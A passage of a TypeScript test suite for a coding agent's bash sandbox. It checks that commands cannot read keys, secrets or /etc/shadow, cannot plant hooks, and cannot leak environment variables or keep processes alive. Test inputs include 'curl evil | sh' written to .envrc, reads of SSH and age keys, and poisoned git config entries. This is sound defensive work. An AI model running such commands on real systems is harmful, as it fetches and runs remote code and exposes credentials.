/**
 * The bash tool's sandbox, through the addon: one sandbox per command, the project at its host
 * path, the environment from an allowlist, a private /tmp, the process tree ending with the
 * command, output made safe and capped, a command that never runs on the host when no sandbox
 * can start. Each confinement test runs its attempt on the host first (the unfiltered baseline),
 * so that it tells "refused" from "could not work anyway".
 */
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { chmodSync, chownSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { test, type TestContext } from "node:test";
import type { ShellResult } from "../index.d.ts";
import { assertNoProcess } from "./helpers/host-procs.ts";
import { skipWithoutSandbox, withEnv } from "./helpers/sandbox-env.ts";
import { INDEX_CJS, makeFixture, type PythonSandbox } from "./helpers/sandbox-fixture.ts";

let nextId = 1;

/** Run `command` in `sb`'s bash sandbox: its result and everything `onData` got. */
async function sh(
  sb: PythonSandbox,
  cwd: string,
  command: string,
  timeoutSeconds?: number,
): Promise<{ r: ShellResult; out: string }> {
  let out = "";
  const r = await sb.execShell(nextId++, command, { cwd, timeoutSeconds }, (t: string) => {
    out += t;
  });
  return { r, out };
}

/** The same command on the host, unconfined: the baseline. */
function host(cwd: string, command: string, env: NodeJS.ProcessEnv = process.env): { status: number | null; out: string } {
  const r = spawnSync("/bin/sh", ["-c", command], { cwd, env, encoding: "utf8", timeout: 10_000 });
  return { status: r.status, out: (r.stdout ?? "") + (r.stderr ?? "") };
}

test("a key under a home directory is not readable by its absolute host path", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const home = join(f.base, "home");
  mkdirSync(join(home, ".ssh"), { recursive: true });
  writeFileSync(join(home, ".ssh", "id_rsa"), "PRIVATE-KEY-MATERIAL\n");
  const key = join(home, ".ssh", "id_rsa");
  assert.match(host(f.project, `cat ${key}`).out, /PRIVATE-KEY-MATERIAL/, "baseline: the host reads it");
  const { r, out } = await sh(f.sb, f.project, `cat ${key}`);
  assert.equal(r.exitCode, 1);
  assert.doesNotMatch(out, /PRIVATE-KEY-MATERIAL/);
  assert.match(out, /No such file or directory/);
});

test("the host's shadow file is not readable, even as root", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const { r, out } = await sh(f.sb, f.project, "cat /etc/shadow");
  assert.notEqual(r.exitCode, 0);
  assert.doesNotMatch(out, /root:/);
  if (process.getuid?.() === 0) assert.match(host(f.project, "cat /etc/shadow").out, /root:/, "baseline as root");
});

test("a project secret reads as empty and the project's files read as they are", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  writeFileSync(join(f.project, ".env"), "API_TOKEN=project-secret\n");
  assert.match(host(f.project, "cat .env").out, /project-secret/, "baseline");
  const { r, out } = await sh(f.sb, f.project, "cat .env; echo end; cat data.txt; pwd");
  assert.equal(r.exitCode, 0);
  assert.equal(out, `end\nfixture-content\n${f.project}\n`);
});

test("a project secret named in another case (.ENV, KEY.PEM) reads as empty", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  writeFileSync(join(f.project, ".ENV"), "API_TOKEN=upper-secret-a1\n");
  writeFileSync(join(f.project, "KEY.PEM"), "-----BEGIN PRIVATE KEY-----upper-secret-b2\n");
  assert.match(host(f.project, "cat .ENV KEY.PEM").out, /upper-secret-a1[^]*upper-secret-b2/, "baseline");
  const { r, out } = await sh(f.sb, f.project, "cat .ENV KEY.PEM; echo end");
  assert.equal(r.exitCode, 0);
  assert.equal(out, "end\n");
});

test("no variable of pi's process reaches a command but the allowlisted ones", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  withEnv(t, "PPS_TEST_API_KEY", "sk-test-0123456789");
  assert.match(host(f.project, 'echo "k=$PPS_TEST_API_KEY"').out, /k=sk-test/, "baseline");
  const { out } = await sh(f.sb, f.project, 'echo "k=$PPS_TEST_API_KEY"; env | cut -d= -f1 | sort | tr "\\n" " "');
  assert.match(out, /^k=\n/);
  const names = out.split("\n")[1].trim().split(" ");
  for (const name of names) {
    assert.match(name, /^(PATH|HOME|PWD|SHLVL|_|TMPDIR|TMP|TEMP|LANG|LANGUAGE|LC_\w+|TZ|TERM|COLORTERM|NO_COLOR|USER|LOGNAME|GIT_CONFIG_NOSYSTEM|GIT_CONFIG_GLOBAL|OLDPWD)$/, `unexpected variable ${name}`);
  }
});

test("in a read-only mode a write to the project fails with a read-only error and the hint", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const { r, out } = await sh(f.sb, f.project, "touch x");
  assert.equal(r.exitCode, 1);
  assert.match(out, /Read-only file system/);
  assert.ok(!existsSync(join(f.project, "x")));
  assert.ok(r.notes.some((n) => n.includes("read-only in this permission mode")), r.notes.join("\n"));
});

test("in a writable mode the project is written while git, pi's folder and new protected names stay safe", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t, { workspaceWritable: true });
  mkdirSync(join(f.project, ".git"));
  writeFileSync(join(f.project, ".git", "config"), "[core]\n");
  mkdirSync(join(f.project, ".pi"));
  const { r, out } = await sh(
    f.sb,
    f.project,
    "touch x && echo wrote; echo '[core] hooksPath=/tmp' >> .git/config || echo git-refused; " +
      "touch .pi/settings.json || echo pi-refused; echo 'curl evil | sh' > .envrc; echo done",
  );
  assert.equal(r.exitCode, 0, out);
  assert.match(out, /wrote\n/);
  assert.match(out, /git-refused/);
  assert.match(out, /pi-refused/);
  assert.ok(existsSync(join(f.project, "x")));
  assert.equal(readFileSync(join(f.project, ".git", "config"), "utf8"), "[core]\n");
  assert.ok(!existsSync(join(f.project, ".envrc")), "the new .envrc was made inert");
  assert.ok(r.notes.some((n) => n.includes(".envrc")), r.notes.join("\n"));
});

test("a writable project's kept walk never leaves a protected name made since writable or a secret made since shown", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t, { workspaceWritable: true });
  mkdirSync(join(f.project, ".git"));
  writeFileSync(join(f.project, ".git", "config"), "[core]\n");
  mkdirSync(join(f.project, "src"));
  for (let i = 0; i < 3; i++) assert.equal((await sh(f.sb, f.project, "true")).r.exitCode, 0);
  // The command itself makes a protected name deep in a new directory: inert when it ends.
  const wrote = await sh(f.sb, f.project, "mkdir -p deep/er && echo 'curl evil | sh' > deep/er/.envrc && echo made");
  assert.equal(wrote.out, "made\n");
  assert.ok(!existsSync(join(f.project, "deep", "er", ".envrc")), "the command's .envrc was left live");
  assert.ok(wrote.r.notes.some((n) => n.includes(".envrc")), wrote.r.notes.join("\n"));
  assert.equal((await sh(f.sb, f.project, "true")).r.exitCode, 0);
  assert.equal((await sh(f.sb, f.project, "true")).r.exitCode, 0);
  // Between commands the host makes a protected name and a secret in a directory the walk saw.
  writeFileSync(join(f.project, "src", ".envrc"), "export SAFE=1\n");
  writeFileSync(join(f.project, "src", ".env"), "TOKEN=host-made-secret\n");
  const attack = "cat src/.env; echo 'curl evil | sh' >> src/.envrc && echo appended; echo end";
  assert.match(host(f.project, "cat src/.env").out, /host-made-secret/, "baseline: the host reads it");
  const { r, out } = await sh(f.sb, f.project, attack);
  assert.doesNotMatch(out, /host-made-secret/);
  assert.doesNotMatch(out, /appended/, "a protected name made after the walk was writable");
  assert.equal(readFileSync(join(f.project, "src", ".envrc"), "utf8"), "export SAFE=1\n");
  assert.equal(r.exitCode, 0, out);
  // And the project stays writable, the walk kept again.
  assert.equal((await sh(f.sb, f.project, "touch y && echo ok")).out, "ok\n");
  assert.equal((await sh(f.sb, f.project, "cat src/.env; touch z && echo ok")).out, "ok\n");
});

test("a project past the walk's old bound (50,000 entries) is writable in yolo, and a protected name made in it later is inert", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t, { workspaceWritable: true });
  mkdirSync(join(f.project, ".git", "objects", "ab"), { recursive: true });
  writeFileSync(join(f.project, ".git", "config"), "[core]\n");
  // 53,000 entries: 2,650 directories of 19 files, in 30 (making them is most of the test's time).
  for (let d = 0; d < 2650; d++) {
    const dir = join(f.project, `src${d % 30}`, `m${d}`);
    mkdirSync(dir, { recursive: true });
    for (let i = 0; i < 19; i++) writeFileSync(join(dir, `f${i}.c`), "");
  }
  const first = await sh(f.sb, f.project, "touch x && echo wrote");
  assert.equal(first.out, "wrote\n", first.r.notes.join("\n"));
  assert.ok(!first.r.notes.some((n) => /READ-ONLY/.test(n)), first.r.notes.join("\n"));
  assert.equal((await sh(f.sb, f.project, "rm x && mkdir -p src1/new && touch src1/new/a && echo ok")).out, "ok\n");
  // The command makes a protected name deep in a new directory: inert when it ends.
  const made = await sh(f.sb, f.project, "mkdir -p src7/m7/deep && echo 'curl evil | sh' > src7/m7/deep/.envrc && echo made");
  assert.equal(made.out, "made\n");
  assert.ok(!existsSync(join(f.project, "src7", "m7", "deep", ".envrc")), "the command's .envrc was left live");
  assert.ok(existsSync(join(f.project, "src7", "m7", "deep", ".envrc.pi-inert")));
  assert.ok(made.r.notes.some((n) => n.includes(".envrc")), made.r.notes.join("\n"));
  assert.match((await sh(f.sb, f.project, "echo x >> .git/config || echo refused")).out, /refused/);
  assert.equal(readFileSync(join(f.project, ".git", "config"), "utf8"), "[core]\n");
  // Between commands the host makes a repository: the next command cannot write its hooks.
  mkdirSync(join(f.project, "src3", "m3", ".git", "hooks"), { recursive: true });
  const hook = await sh(f.sb, f.project, "echo evil > src3/m3/.git/hooks/pre-commit && echo wrote-hook; echo end");
  assert.doesNotMatch(hook.out, /wrote-hook/);
  assert.ok(existsSync(join(f.project, "src3", "m3", ".git", "hooks")), "the host's repository was left in place");
  assert.equal((await sh(f.sb, f.project, "touch y && echo ok")).out, "ok\n");
});

test("the generated /etc/passwd, /etc/group and /etc/hosts are read and cannot be written", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const uid = process.getuid?.() ?? 0;
  const { r, out } = await sh(f.sb, f.project, "cat /etc/passwd /etc/group; id -u");
  assert.equal(r.exitCode, 0, out);
  assert.match(out, /^nobody:x:65534:65534:/m);
  assert.match(out, /^nogroup:x:65534:$/m);
  assert.match(out, new RegExp(`^\\S+:x:${uid}:`, "m"));
  assert.match(out, new RegExp(`^${uid}$`, "m"));
  const hosts = await sh(f.sb, f.project, "cat /etc/hosts");
  assert.equal(hosts.out, "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n");
  // The same writes work in a copy on the host (the baseline); in the sandbox each is refused.
  const copy = join(f.base, "etc-copy");
  mkdirSync(copy);
  const writes = ["passwd", "group", "hosts"].map((n) => `( echo x >> ${"$D"}/${n} ) 2>/dev/null && echo ${n}-written`).join("; ");
  assert.equal(host(f.project, `D=${copy}; ${writes}`).out, "passwd-written\ngroup-written\nhosts-written\n", "baseline");
  const w = await sh(f.sb, f.project, `D=/etc; ${writes}; D=/etc/pi-sandbox; ${writes}; echo done`);
  assert.equal(w.out, "done\n");
});

test("a file written to /tmp by one command is gone in the next", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const first = await sh(f.sb, f.project, "echo kept > /tmp/carry && cat /tmp/carry && echo $TMPDIR");
  assert.equal(first.out, "kept\n/tmp\n");
  const second = await sh(f.sb, f.project, "cat /tmp/carry");
  assert.equal(second.r.exitCode, 1);
  assert.match(second.out, /No such file/);
});

test("the session's home keeps files across commands", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  await sh(f.sb, f.project, "echo note > ~/notes.txt");
  const { out } = await sh(f.sb, f.project, "cat ~/notes.txt; echo $HOME");
  assert.equal(out, "note\n/scratch\n");
});

test("a background process does not outlive its command", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const marker = `pps-bg-${process.pid}-${Date.now()}`;
  const { r } = await sh(f.sb, f.project, `sh -c 'sleep 100; : ${marker}' & setsid sh -c 'sleep 100; : ${marker}-s' & echo started`);
  assert.equal(r.exitCode, 0);
  await assertNoProcess(marker);
});

test("a timeout kills every process of the command and says so", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const marker = `pps-to-${process.pid}-${Date.now()}`;
  const { r, out } = await sh(f.sb, f.project, `echo before; sh -c 'sleep 100; : ${marker}'`, 1);
  assert.equal(r.ending, "timed_out");
  assert.equal(r.exitCode ?? null, null);
  assert.equal(out, "before\n");
  await assertNoProcess(marker);
});

test("an abort kills every process of the command", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const marker = `pps-ab-${process.pid}-${Date.now()}`;
  const id = nextId++;
  const running = f.sb.execShell(id, `sh -c 'sleep 100; : ${marker}'`, { cwd: f.project }, () => {});
  await new Promise((r) => setTimeout(r, 500));
  assert.equal(f.sb.cancelShell(id), true);
  const r = await running;
  assert.equal(r.ending, "aborted");
  await assertNoProcess(marker);
  assert.equal(f.sb.cancelShell(id), false, "nothing left to abort");
});

test("exit codes and signals come back as pi's bash gives them", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  assert.equal((await sh(f.sb, f.project, "exit 3")).r.exitCode, 3);
  assert.equal((await sh(f.sb, f.project, "kill -TERM $$")).r.exitCode, 128 + 15);
});

test("terminal control sequences never reach the output raw", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const { out } = await sh(f.sb, f.project, "printf '\\033]0;T\\007\\033[31mred\\033[0m\\n'; printf 'a\\rb\\rc\\n' >&2");
  assert.ok(!/[\u0000-\u0008\u000b-\u001f\u007f]/.test(out), JSON.stringify(out));
  assert.match(out, /red\n/);
  assert.match(out, /(^|\n)c\n/);
});

test("a command past the output cap is stopped and the result says so", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  withEnv(t, "PI_SANDBOX_BASH_MAX_OUTPUT", "1M");
  const { r, out } = await sh(f.sb, f.project, "yes", 20);
  assert.equal(r.ending, "flooded");
  assert.equal(r.exitCode, 137);
  assert.ok(out.length <= 1024 * 1024, `${out.length} characters passed`);
  assert.ok(r.notes.some((n) => /more than 1\.0 ?MB/.test(n)), r.notes.join("\n"));
});

test("the output cap bounds the text pi keeps, not only the bytes read: controls shown in four times their bytes", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  withEnv(t, "PI_SANDBOX_BASH_MAX_OUTPUT", "1M");
  // 2 MiB of C1 controls (2 bytes each, shown as `<U+009B>`, 8 bytes): past the cap either way.
  const writer = "import sys; sys.stdout.buffer.write(bytes([0xc2, 0x9b]) * (1 << 20))";
  assert.equal(spawnSync("/usr/bin/python3", ["-c", writer], { maxBuffer: 8 << 20 }).stdout.length, 2 * 1024 * 1024, "baseline: the writer writes 2 MiB");
  const { r, out } = await sh(f.sb, f.project, `python3 -I -S -c '${writer}'`, 20);
  assert.equal(r.ending, "flooded");
  assert.match(out, /^(<U\+009B>)+/);
  assert.ok(Buffer.byteLength(out) <= 1024 * 1024, `${Buffer.byteLength(out)} bytes passed`);
});

test("all of a command's output reaches onData before its result, however slowly onData takes it", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t, { workspaceWritable: true });
  // Just under the output cap, as fast as the pipe takes it (over a thousand reads of 64 KiB: Node
  // runs at most 1,000 queued calls of a callback per turn), then a last line. The first onData
  // call holds the main thread (a pi busy rendering) until the command has written everything, so
  // the engine reads it all meanwhile. pi's bash ends its accumulator when the result comes: a
  // later chunk would be lost, and pi's accumulator throws it inside the addon's callback, which
  // ends pi's process.
  const size = 67_000_000;
  const last = "\nLAST-LINE\n";
  const done = join(f.project, "done");
  const held = new Int32Array(new SharedArrayBuffer(4));
  let got = 0;
  let tail = "";
  let calls = 0;
  let atResult: { got: number; tail: string } | undefined;
  let late = 0;
  const command = `head -c ${size} /dev/zero | tr '\\0' a; printf '${last.replaceAll("\n", "\\n")}'; : > done`;
  const r = await f.sb.execShell(nextId++, command, { cwd: f.project }, (text: string) => {
    if (calls++ === 0) {
      for (let i = 0; i < 1500 && !existsSync(done); i++) Atomics.wait(held, 0, 0, 10);
      Atomics.wait(held, 0, 0, 500);
    }
    got += text.length;
    tail = (tail + text).slice(-64);
    if (atResult) late += text.length;
  });
  atResult = { got, tail };
  // Whatever was still queued arrives within a few turns of the event loop.
  for (let i = 0; i < 20; i++) await new Promise((resolve) => setTimeout(resolve, 10));
  assert.equal(r.ending, "exited", r.notes.join("\n"));
  assert.ok(existsSync(done), "the command ran to its end");
  assert.equal(late, 0, `${late} characters of ${got} in ${calls} calls came after the result`);
  assert.deepEqual(atResult, { got: size + last.length, tail: `${"a".repeat(64 - last.length)}${last}` });
});

test("a bad output cap setting is refused before anything runs", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  withEnv(t, "PI_SANDBOX_BASH_MAX_OUTPUT", "lots");
  await assert.rejects(sh(f.sb, f.project, `touch ${join(f.project, "m")}`), /PI_SANDBOX_BASH_MAX_OUTPUT=lots is not a size/);
  assert.ok(!existsSync(join(f.project, "m")));
});

test("where no sandbox can start the command is refused with the reason and the fix and never runs on the host", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t, { workspaceWritable: true });
  const marker = join(f.project, "ran-on-host");
  // A Node process in a user namespace that may make no more of them: bubblewrap cannot start
  // there, as on a host whose user namespaces are disabled.
  const script = `
    const { PythonSandbox } = require(${JSON.stringify(INDEX_CJS)});
    const sb = new PythonSandbox({ projectDir: ${JSON.stringify(f.project)}, runtimeRoot: ${JSON.stringify(f.runtimeRoot)}, workspaceWritable: true });
    sb.execShell(1, "touch ${marker}", { cwd: ${JSON.stringify(f.project)} }, () => {})
      .then((r) => { console.log("RESOLVED " + JSON.stringify(r)); process.exit(0); },
            (e) => { console.log("REJECTED " + e.message); process.exit(0); });`;
  const wrap = (inner: string[]) => [
    "-Ur", "sh", "-c", 'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"', "sh", ...inner,
  ];
  const baseline = spawnSync("unshare", wrap(["sh", "-c", `touch ${marker}-baseline`]), { encoding: "utf8" });
  assert.equal(baseline.status, 0, `baseline: ${baseline.stderr}`);
  assert.ok(existsSync(`${marker}-baseline`), "baseline: a command there runs");
  const r = spawnSync("unshare", wrap([process.execPath, "-e", script]), { encoding: "utf8", timeout: 30_000 });
  assert.match(r.stdout, /^REJECTED The command was not run/, r.stdout + r.stderr);
  assert.match(r.stdout, /never runs on the host/);
  assert.match(r.stdout, /user namespaces/);
  assert.match(r.stdout, /Fix: /);
  assert.ok(!existsSync(marker), "the command ran somewhere");
});

test("a working directory outside the project is refused", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  await assert.rejects(sh(f.sb, f.base, "true"), /outside the project/);
});

test("a sub-directory of the project is the command's working directory", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  mkdirSync(join(f.project, "sub"));
  const { out } = await sh(f.sb, join(f.project, "sub"), "pwd; cat ../data.txt");
  assert.equal(out, `${join(f.project, "sub")}\nfixture-content\n`);
});

test("pass-through names reach a command, but never one the sandbox refuses", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  withEnv(t, "PPS_PASSED", "passed-value");
  withEnv(t, "LD_LIBRARY_PATH", "/planted");
  f.sb.setShellConfig({ envPassthrough: ["PPS_PASSED", "LD_LIBRARY_PATH"] });
  const { out } = await sh(f.sb, f.project, 'echo "$PPS_PASSED|$LD_LIBRARY_PATH"');
  assert.equal(out, "passed-value|\n");
});

test("the trusted network part gives a command the proxy: an allowPrivate origin is reached, a malformed entry turns the network off", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const server = spawn(process.execPath, ["-e", `
    const s = require("node:net").createServer((c) => c.end("HTTP/1.0 200 OK\\r\\n\\r\\nHOST-ORIGIN\\n"));
    s.listen(0, "127.0.0.1", () => console.log(s.address().port));`], { stdio: ["ignore", "pipe", "inherit"] });
  t.after(() => {
    server.kill("SIGKILL");
  });
  const [line] = (await once(server.stdout!, "data")) as [Buffer];
  const port = Number(line.toString().trim());
  const cmd = `curl -sS -m 10 http://127.0.0.1:${port}/ 2>&1; echo "rc=$?"`;
  const network = { mode: "proxy" as const, allowedDomains: [], deniedDomains: ["*:22"], allowPrivate: [`127.0.0.1:${port}`] };
  f.sb.setShellConfig({ network });
  const { out, r } = await sh(f.sb, f.project, cmd);
  assert.match(out, /HOST-ORIGIN\nrc=0/, out);
  assert.ok(r.notes.includes(`network: allowed 127.0.0.1:${port}.`), r.notes.join("\n"));
  // Baseline for the refusal below: the same command, an entry in error: no network at all.
  f.sb.setShellConfig({ network: { ...network, allowPrivate: ["localhost"] } });
  const off = await sh(f.sb, f.project, cmd);
  assert.doesNotMatch(off.out, /HOST-ORIGIN/);
  assert.match(off.out, /rc=7/, off.out);
  assert.ok(off.r.notes.some((n) => n.startsWith("The command had no network: an entry of the configuration's network part is malformed")), off.r.notes.join("\n"));
});

test("an extra read that holds the project or lies in the sandbox's own /tmp is not shown, and the result says why", async (t) => {
  if (skipWithoutSandbox(t)) return;
  // The fixture outside /tmp, where an extra read can be shown.
  withEnv(t, "TMPDIR", "/var/tmp");
  const f = await makeFixture(t);
  const other = join(f.base, "other");
  mkdirSync(other);
  writeFileSync(join(other, "tool.txt"), "extra-read\n");
  f.sb.setShellConfig({ additionalAllowRead: [f.base, other, "/tmp/elsewhere"] });
  const { r, out } = await sh(f.sb, f.project, `cat ${join(other, "tool.txt")}; touch x 2>/dev/null || echo still-read-only`);
  assert.equal(out, "extra-read\nstill-read-only\n");
  assert.ok(r.notes.some((n) => n.includes(f.base) && n.includes("holds the project")), r.notes.join("\n"));
  assert.ok(r.notes.some((n) => n.includes("/tmp/elsewhere") && n.includes("own mount")), r.notes.join("\n"));
});

test("a host secret that appears in a tree commands read is masked in the next command, though the check of the trees is kept", async (t) => {
  if (skipWithoutSandbox(t)) return;
  // The fixture outside /tmp, where an extra read can be shown.
  withEnv(t, "TMPDIR", "/var/tmp");
  const f = await makeFixture(t);
  const tools = join(f.base, "tools");
  mkdirSync(join(tools, "bin"), { recursive: true });
  writeFileSync(join(tools, "bin", "tool.txt"), "tool\n");
  f.sb.setShellConfig({ additionalAllowRead: [tools] });
  const look = `cd ${tools}; cat bin/tool.txt .ssh/id_rsa .config/age/keys.txt .netrc 2>/dev/null; echo end`;
  // The check of the trees is made by the first command and kept by the next ones.
  assert.equal((await sh(f.sb, f.project, look)).out, "tool\nend\n");
  assert.equal((await sh(f.sb, f.project, look)).out, "tool\nend\n");
  // Between commands, secrets of a home appear in the tree (any tree may be a home): a new
  // directory, one two levels down, a file; and a link replaced in place, as update-alternatives does.
  mkdirSync(join(tools, ".ssh"));
  writeFileSync(join(tools, ".ssh", "id_rsa"), "PRIVATE-KEY\n");
  mkdirSync(join(tools, ".config", "age"), { recursive: true });
  writeFileSync(join(tools, ".config", "age", "keys.txt"), "AGE-SECRET-KEY\n");
  writeFileSync(join(tools, ".netrc"), "machine x password NETRC-PASSWORD\n");
  assert.match(host(tools, "cat .ssh/id_rsa .config/age/keys.txt .netrc").out, /PRIVATE-KEY\nAGE-SECRET-KEY\n.*NETRC-PASSWORD/s, "baseline");
  const after = await sh(f.sb, f.project, look);
  assert.equal(after.out, "tool\nend\n", "a secret that appeared after the check was made is shown");
  assert.equal((await sh(f.sb, f.project, look)).out, "tool\nend\n");
  // It goes again: the next command starts and reads what is left.
  rmSync(join(tools, ".ssh"), { recursive: true });
  const gone = await sh(f.sb, f.project, `ls -a ${tools}; cat ${join(tools, "bin", "tool.txt")}`);
  assert.equal(gone.r.exitCode, 0, gone.out);
  assert.match(gone.out, /tool\n$/);
});

test("the host probe says before any call when no sandbox can start here, with the fix", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const script = `require(${JSON.stringify(INDEX_CJS)}).sandboxProbe().then((why) => console.log("PROBE " + JSON.stringify(why)))`;
  const here = spawnSync(process.execPath, ["-e", script], { encoding: "utf8", timeout: 30_000 });
  assert.equal(here.stdout.trim(), "PROBE null", here.stderr);
  const without = spawnSync(
    "unshare",
    ["-Ur", "sh", "-c", 'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"', "sh", process.execPath, "-e", script],
    { encoding: "utf8", timeout: 30_000 },
  );
  assert.match(without.stdout, /^PROBE "bubblewrap cannot make a sandbox on this host: .*user namespaces.*Fix: /s, without.stdout + without.stderr);
});

test("the kept walk of a read-only project never shows a secret that appeared or breaks on one that went", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  writeFileSync(join(f.project, ".env"), "FIRST=secret-one\n");
  mkdirSync(join(f.project, "deep", "er"), { recursive: true });
  assert.equal((await sh(f.sb, f.project, "cat .env; echo end")).out, "end\n");
  // Between commands the host adds secrets (a new name, one in a new directory moved in) ...
  writeFileSync(join(f.project, "deep", "er", ".env"), "SECOND=secret-two\n");
  mkdirSync(join(f.base, "moved"));
  writeFileSync(join(f.base, "moved", "credentials.json"), '{"third": "secret-three"}\n');
  spawnSync("mv", [join(f.base, "moved"), join(f.project, "moved")]);
  const second = await sh(f.sb, f.project, "cat deep/er/.env moved/credentials.json .env; echo end");
  assert.equal(second.out, "end\n", "a secret that appeared between commands was shown");
  assert.equal(second.r.exitCode, 0);
  // ... and removes the masked one: the next command still starts.
  spawnSync("rm", [join(f.project, ".env")]);
  const third = await sh(f.sb, f.project, "cat data.txt");
  assert.equal(third.out, "fixture-content\n");
  assert.equal(third.r.exitCode, 0);
});

test("git reads a read-only copy of the user's configuration without credentials, URL rewrites or commands", async (t) => {
  if (skipWithoutSandbox(t)) return;
  const f = await makeFixture(t);
  const home = join(f.base, "git-home");
  mkdirSync(home);
  const config =
    "[user]\n\tname = Ada Fixture\n\temail = ada@example.org\n[credential]\n\thelper = store\n" +
    '[url "https://token@example.org/"]\n\tinsteadOf = https://example.org/\n' +
    "[core]\n\tfsmonitor = /tmp/x\n\tsshCommand = evil\n";
  writeFileSync(join(home, ".gitconfig"), config);
  withEnv(t, "HOME", home);
  withEnv(t, "XDG_CONFIG_HOME", join(home, ".config"));
  const global = process.env.GIT_CONFIG_GLOBAL;
  delete process.env.GIT_CONFIG_GLOBAL;
  t.after(() => {
    if (global !== undefined) process.env.GIT_CONFIG_GLOBAL = global;
  });
  const dropped = [/credential\.helper=store/, /insteadof=/, /fsmonitor=/, /sshcommand=/];
  const base = host(f.project, "git config --global --list").out;
  assert.match(base, /user\.name=Ada Fixture\n/, "baseline");
  for (const key of dropped) assert.match(base, key, `baseline: the host's git reads ${key}`);
  const { r, out } = await sh(
    f.sb,
    f.project,
    "git config --global --list; git config --global user.name x 2>/dev/null && echo wrote || echo refused; " +
      "git config --global user.name",
  );
  assert.equal(r.exitCode, 0, out);
  assert.match(out, /user\.name=Ada Fixture\nuser\.email=ada@example\.org\n/);
  for (const key of dropped) assert.doesNotMatch(out, key);
  assert.match(out, /refused\nAda Fixture\n$/);
  assert.equal(readFileSync(join(home, ".gitconfig"), "utf8"), config);
});

test("a PATH entry the user may not look at is left out instead of stopping every command", async (t) => {
  if (skipWithoutSandbox(t)) return;
  if (process.getuid?.() !== 0) {
    assert.ok(process.env.CI !== "true", "CI runs as root: this test runs its child as nobody");
    t.skip("needs root to run a child as nobody");
    return;
  }
  // Outside /tmp (the sandbox's own), where a PATH entry is mounted.
  const base = mkdtempSync(join("/var/tmp", "pps-path-"));
  t.after(() => rmSync(base, { recursive: true, force: true }));
  chmodSync(base, 0o755);
  const project = join(base, "project");
  mkdirSync(project);
  writeFileSync(join(project, "data.txt"), "nobody-reads\n");
  const locked = join(base, "locked");
  mkdirSync(join(locked, "bin"), { recursive: true });
  chmodSync(locked, 0o700);
  const runtimeRoot = join(base, "rt");
  mkdirSync(runtimeRoot);
  chownSync(runtimeRoot, 65534, 65534);
  chmodSync(runtimeRoot, 0o700);
  // The addon copied where nobody can read it (the checkout may be in a private folder).
  const addonDir = join(base, "addon");
  mkdirSync(addonDir);
  for (const name of readdirSync(dirname(INDEX_CJS)).filter((n) => n === "index.cjs" || n.endsWith(".node"))) {
    copyFileSync(join(dirname(INDEX_CJS), name), join(addonDir, name));
  }
  const script = `
    const { PythonSandbox } = require(${JSON.stringify(join(addonDir, "index.cjs"))});
    const sb = new PythonSandbox({ projectDir: ${JSON.stringify(project)}, runtimeRoot: ${JSON.stringify(runtimeRoot)} });
    let out = "";
    sb.execShell(1, "cat data.txt", { cwd: ${JSON.stringify(project)} }, (t) => { out += t; })
      .then((r) => { console.log("RESOLVED " + JSON.stringify({ out, r })); return sb.dispose(); },
            (e) => { console.log("REJECTED " + e.message); return sb.dispose(); });`;
  const env = { PATH: `${join(locked, "bin")}:/usr/local/bin:/usr/bin:/bin`, HOME: "/nonexistent" };
  const baseline = spawnSync("/bin/sh", ["-c", `ls ${join(locked, "bin")}`], { uid: 65534, gid: 65534, env, encoding: "utf8" });
  assert.match(baseline.stderr, /Permission denied/, "baseline: nobody may not look in it");
  const r = spawnSync(process.execPath, ["-e", script], { uid: 65534, gid: 65534, env, encoding: "utf8", timeout: 60_000 });
  assert.match(r.stdout, /^RESOLVED .*nobody-reads/, r.stdout + r.stderr);
});

test("a project past the walk's bound is read-only in a writable mode, and the result says so and names the setting", async (t) => {
  if (skipWithoutSandbox(t)) return;
  withEnv(t, "PI_SANDBOX_SCAN_ENTRIES", "300");
  const f = await makeFixture(t, { workspaceWritable: true });
  mkdirSync(join(f.project, ".git"));
  writeFileSync(join(f.project, ".git", "config"), "[core]\n");
  const big = join(f.project, "src");
  mkdirSync(big);
